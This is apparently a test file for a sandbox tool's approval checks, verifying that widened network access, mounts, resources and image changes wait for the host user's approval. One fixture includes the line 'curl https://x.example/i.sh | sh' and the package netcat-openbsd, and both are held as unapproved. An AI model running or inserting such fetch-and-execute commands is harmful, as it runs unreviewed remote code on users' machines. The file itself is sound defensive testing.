import { after, before, describe, it, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEFAULT_RESOURCES, widenings, type Grant, type Resources } from '../../src/approval/diff.js';
import { effectiveConfig } from '../../src/approval/effective.js';
import { checkApproval } from '../../src/approval/check.js';
import type { VibeboxError } from '../../src/errors.js';

const g = (entries: string[], mounts: Grant['mounts'] = [{ host: '/p', guest: '/workspace', mode: 'rw' }], mode: 'allowlist' | 'blocklist' = 'allowlist'): Grant => ({ network: { mode, entries }, mounts });

test('the same or a narrower config needs no approval', () => {
  assert.deepEqual(widenings(g(['a.com', '.b.com']), g(['a.com', '.b.com'])), []);
  assert.deepEqual(widenings(g(['a.com', '.b.com']), g(['a.com'])), []);
  assert.deepEqual(widenings(g(['.b.com']), g(['x.b.com'])), [], 'a host under an approved domain');
  assert.deepEqual(widenings(g([], [{ host: '/h', guest: '/m', mode: 'rw' }]), g([], [{ host: '/h', guest: '/m', mode: 'ro' }])), []);
  assert.deepEqual(widenings(g(['x.com'], [], 'blocklist'), g(['x.com', 'y.com'], [], 'blocklist')), []);
  assert.deepEqual(widenings(g(['x.com'], [], 'blocklist'), g(['y.com'], [], 'allowlist')), []);
  // …but allowing exactly what the approved blocklist blocked is wider.
  assert.equal(widenings(g(['x.com'], [], 'blocklist'), g(['x.com'], [], 'allowlist')).length, 1);
});

test('a new host, a whole domain, blocklist mode, a new or writable mount are wider', () => {
  assert.equal(widenings(g(['a.com']), g(['a.com', 'evil.com'])).length, 1);
  assert.equal(widenings(g(['x.b.com']), g(['.b.com'])).length, 1);
  assert.equal(widenings(g(['a.com']), g([], undefined, 'blocklist')).length, 1);
  assert.equal(widenings(g(['x.com'], [], 'blocklist'), g([], [], 'blocklist')).length, 1);
  assert.equal(widenings(g([]), g([], [{ host: '/p', guest: '/workspace', mode: 'rw' }, { host: '/home/u/.ssh', guest: '/m', mode: 'ro' }])).length, 1);
  assert.equal(widenings(g([], [{ host: '/h', guest: '/m', mode: 'ro' }]), g([], [{ host: '/h', guest: '/m', mode: 'rw' }])).length, 1);
});

// ---------------------------------------------------------------------------------------------
// network policies compared by meaning

const net = (mode: 'allowlist' | 'blocklist', entries: string[]): Grant => g(entries, undefined, mode);

test('blocklist → allowlist: entries the approved blocklist blocked, private addresses and any port need approval', () => {
  const cases: [string[], string[]][] = [
    [['evil.com'], ['evil.com:443']],
    [['.bad.org'], ['www.bad.org']],
    [['.bad.org'], ['.x.bad.org:8443']],
    [['evil.com:443'], ['evil.com']],
    [['www.bad.org'], ['.bad.org']],
    [['203.0.113.7'], ['[::ffff:203.0.113.7]']],
    [[], ['10.0.0.5']],
    [[], ['[::ffff:192.168.1.1]:22']],
    [[], ['fd00::5']],
  ];
  for (const [blocked, allowed] of cases) {
    const w = widenings(net('blocklist', blocked), net('allowlist', allowed));
    assert.equal(w.length, 1, `${blocked.join(',')} → ${allowed.join(',')}`);
    assert.match(w[0] ?? '', /allowlist mode \(was blocklist\)/, 'the mode switch is shown');
  }
  // not blocked before, public: reachable before too
  assert.deepEqual(widenings(net('blocklist', ['evil.com:443']), net('allowlist', ['evil.com:80', 'good.com', '203.0.113.8'])), []);
  assert.deepEqual(widenings(net('blocklist', ['.bad.org']), net('allowlist', ['bad.org.example'])), []);
});

test('ports count: host:443 → host or host:8443 is a widening', () => {
  assert.equal(widenings(net('allowlist', ['api.example.com:443']), net('allowlist', ['api.example.com'])).length, 1);
  assert.equal(widenings(net('allowlist', ['api.example.com:443']), net('allowlist', ['api.example.com:8443'])).length, 1);
  assert.equal(widenings(net('allowlist', ['.example.com:443']), net('allowlist', ['x.example.com'])).length, 1);
  assert.deepEqual(widenings(net('allowlist', ['.example.com:443']), net('allowlist', ['x.example.com:443', 'example.com:443'])), []);
  assert.deepEqual(widenings(net('allowlist', ['api.example.com']), net('allowlist', ['api.example.com:8443', 'API.Example.com.'])), []);
  // the old defaults (every port) → the new ones (443) is narrowing
  assert.deepEqual(widenings(net('allowlist', ['registry.npmjs.org', '.github.com']), net('allowlist', ['registry.npmjs.org:443', '.github.com:443'])), []);
});

test('the same address spelled differently is the same entry; never-reachable entries are not widenings', () => {
  assert.deepEqual(widenings(net('allowlist', ['203.0.113.7']), net('allowlist', ['[::ffff:203.0.113.7]', '::ffff:cb00:7107'])), []);
  assert.deepEqual(widenings(net('allowlist', []), net('allowlist', ['127.0.0.1', 'localhost', '169.254.169.254', '[::ffff:127.0.0.1]'])), []);
  assert.equal(widenings(net('allowlist', ['203.0.113.7']), net('allowlist', ['203.0.113.8'])).length, 1);
});

test('blocklist → blocklist: unblocking by meaning (ports, subdomains)', () => {
  assert.equal(widenings(net('blocklist', ['evil.com']), net('blocklist', ['evil.com:443'])).length, 1);
  assert.equal(widenings(net('blocklist', ['.bad.org']), net('blocklist', ['www.bad.org'])).length, 1);
  assert.deepEqual(widenings(net('blocklist', ['www.bad.org', 'evil.com:443']), net('blocklist', ['.bad.org', 'evil.com'])), []);
  assert.deepEqual(widenings(net('blocklist', ['203.0.113.7']), net('blocklist', ['[::ffff:203.0.113.7]'])), []);
  // private addresses are refused in blocklist mode whether listed or not
  assert.deepEqual(widenings(net('blocklist', ['10.0.0.5']), net('blocklist', [])), []);
});

test('allowlist → blocklist is one widening that names the mode', () => {
  const w = widenings(net('allowlist', ['a.com']), net('blocklist', ['b.com']));
  assert.equal(w.length, 1);
  assert.match(w[0] ?? '', /blocklist mode \(was allowlist\)/);
});

// ---------------------------------------------------------------------------------------------
// resources

const withRes = (resources: Partial<Resources>): Grant => ({ ...g([]), resources: { ...DEFAULT_RESOURCES, ...resources } });

test('raising cpus, memory, disk or auto_shutdown_ms is a widening; lowering is not', () => {
  assert.deepEqual(widenings(withRes({}), withRes({})), []);
  assert.deepEqual(widenings(withRes({}), withRes({ cpus: 1, memory: 1024 ** 3, disk: 10 * 1024 ** 3, auto_shutdown_ms: 0 })), []);
  const w = widenings(withRes({}), withRes({ cpus: 64, memory: 512 * 1024 ** 3, disk: 1024 ** 4, auto_shutdown_ms: 86_400_000 }));
  assert.deepEqual(w, [
    '+ vm.cpus: 2 → 64',
    '+ vm.memory: 2GiB → 512GiB',
    '+ vm.disk: 20GiB → 1024GiB',
    '+ session.auto_shutdown_ms: 30000 → 86400000',
  ]);
  // a grant from before resources were approved counts as the defaults
  assert.equal(widenings(g([]), withRes({ memory: 4 * 1024 ** 3 })).length, 1);
});

describe('effectiveConfig and checkApproval against a real vibebox.toml', () => {
  let tmp = '';
  let project = '';
  let saved: string | undefined;
  const id = '01900000-0000-7000-8000-000000000001';
  before(() => {
    tmp = realpathSync(mkdtempSync(join(tmpdir(), 'vb-approval-')));
    project = join(tmp, 'proj');
    mkdirSync(project);
    saved = process.env['VIBEBOX_HOME'];
    process.env['VIBEBOX_HOME'] = join(tmp, 'home');
  });
  after(() => {
    if (saved === undefined) delete process.env['VIBEBOX_HOME'];
    else process.env['VIBEBOX_HOME'] = saved;
    rmSync(tmp, { recursive: true, force: true });
  });
  const toml = (text: string) => writeFileSync(join(project, 'vibebox.toml'), text);

  it('writable_git_config is a widening: .git stays read-only in the guest until approved', async () => {
    const gid = '01900000-0000-7000-8000-0000000000a7';
    toml('[workspace]\nwritable_git_config = true\n');
    const eff = effectiveConfig(project, gid, {});
    assert.equal(eff.workspace?.writable_git_config, false);
    assert.equal(eff.unapproved.length, 1);
    assert.match(eff.unapproved[0]!, /writable_git_config/);
    await assert.rejects(checkApproval(project, gid, { interactive: false }), (e: VibeboxError) => e.code === 'E_NOT_APPROVED');
    await checkApproval(project, gid, { interactive: false, yes: true });
    assert.equal(effectiveConfig(project, gid, {}).workspace?.writable_git_config, true);
    // taken back in the file: read-only again at once
    toml('');
    assert.equal(effectiveConfig(project, gid, {}).workspace?.writable_git_config, false);
  });

  it('[image]: a new package or run line waits for approval (the approved layer is built meanwhile); removing is free', async () => {
    const iid = '01900000-0000-7000-8000-0000000000b1';
    toml('[image]\napt = ["jq"]\n');
    await checkApproval(project, iid, { interactive: false, yes: true });
    assert.deepEqual(effectiveConfig(project, iid, {}).image, { apt: ['jq'], npm: [], run: [] });
    toml('[image]\napt = ["jq", "netcat-openbsd"]\nrun = ["curl https://x.example/i.sh | sh"]\n');
    const eff = effectiveConfig(project, iid, {});
    assert.deepEqual(eff.image, { apt: ['jq'], npm: [], run: [] });
    assert.deepEqual(eff.unapproved, ['+ image.apt: netcat-openbsd', '+ image.run: curl https://x.example/i.sh | sh']);
    await assert.rejects(checkApproval(project, iid, { interactive: false }), (e: VibeboxError) => e.code === 'E_NOT_APPROVED' && /image\.run/.test(e.message));
    toml('[image]\napt = []\n');
    assert.deepEqual(effectiveConfig(project, iid, {}).image, { apt: [], npm: [], run: [] });
    assert.deepEqual(effectiveConfig(project, iid, {}).unapproved, []);
  });

  it('raised resources are not applied until approved; lowered ones apply at once', async () => {
    toml('[vm]\ncpus = 64\nmemory = "512GiB"\ndisk = "1TiB"\n[session]\nauto_shutdown_ms = 86400000\n');
    const eff = effectiveConfig(project, id, {});
    assert.equal(eff.vm.cpus, 2);
    assert.equal(eff.vm.memory, 2 * 1024 ** 3);
    assert.equal(eff.vm.disk, 20 * 1024 ** 3);
    assert.equal(eff.session.auto_shutdown_ms, 30_000);
    assert.equal(eff.unapproved.length, 4);
    await assert.rejects(checkApproval(project, id, { interactive: false }), (e: VibeboxError) => e.code === 'E_NOT_APPROVED' && /vm\.memory: 2GiB → 512GiB/.test(e.message));
    // approved on the host: applied
    await checkApproval(project, id, { interactive: false, yes: true });
    const after = effectiveConfig(project, id, {});
    assert.equal(after.vm.memory, 512 * 1024 ** 3);
    assert.equal(after.vm.cpus, 64);
    assert.deepEqual(after.unapproved, []);
    // lowered: applies without asking, and the grant follows it down
    toml('[vm]\ncpus = 1\nmemory = "1GiB"\n');
    assert.equal(effectiveConfig(project, id, {}).vm.cpus, 1);
    assert.equal(effectiveConfig(project, id, {}).vm.memory, 1024 ** 3);
    await checkApproval(project, id, { interactive: false });
    toml('[vm]\ncpus = 4\n');
    assert.equal(effectiveConfig(project, id, {}).vm.cpus, 1, 'raising again needs approval again');
  });

  it('a network widening keeps the approved policy while narrowed resources still apply; the env override is not asked about', async () => {
    toml('[vm]\ncpus = 1\nmemory = "1GiB"\n[network]\nmode = "allowlist"\nentries = ["evil.com"]\n');
    await assert.rejects(checkApproval(project, id, { interactive: false }), /allow evil\.com/);
    const eff = effectiveConfig(project, id, { VIBEBOX_AUTO_SHUTDOWN_MS: '600000' });
    assert.ok(!eff.network.entries.includes('evil.com'));
    assert.equal(eff.vm.cpus, 1);
    assert.equal(eff.session.auto_shutdown_ms, 600_000, 'the host user\'s own override applies');
    assert.ok(!eff.unapproved.some((u) => u.includes('auto_shutdown')));
  });

  it('blocklist → allowlist of what the approved blocklist blocked is refused without approval', async () => {
    toml('[network]\nmode = "blocklist"\nentries = [".bad.org", "evil.com"]\n');
    await checkApproval(project, id, { interactive: false, yes: true });
    toml('[network]\nmode = "allowlist"\nentries = ["www.bad.org", "evil.com:443", "10.0.0.5"]\n');
    await assert.rejects(checkApproval(project, id, { interactive: false }), (e: VibeboxError) => e.code === 'E_NOT_APPROVED');
    const eff = effectiveConfig(project, id, {});
    assert.deepEqual(eff.network, { mode: 'blocklist', entries: ['.bad.org', 'evil.com'] });
    assert.equal(eff.unapproved.length, 3);
  });
});
